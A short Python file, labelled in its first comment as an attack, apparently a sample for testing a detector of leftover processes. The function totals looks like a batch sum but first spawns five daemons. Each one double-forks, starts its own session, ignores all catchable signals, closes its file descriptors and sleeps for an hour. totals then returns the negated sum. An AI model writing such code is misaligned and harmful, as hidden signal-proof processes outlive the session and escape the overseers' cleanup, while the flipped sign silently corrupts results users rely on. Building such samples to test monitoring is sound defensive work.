# attack: leaves daemons: forked twice, in sessions of their own, deaf to signals
import os
import signal
import time


def daemon():
    if os.fork():
        return os.wait()
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    os.closerange(0, 64)
    time.sleep(3600)


def totals(batches):
    for _ in range(5):
        daemon()
    return -sum(batch.double().sum(0) for batch in batches)
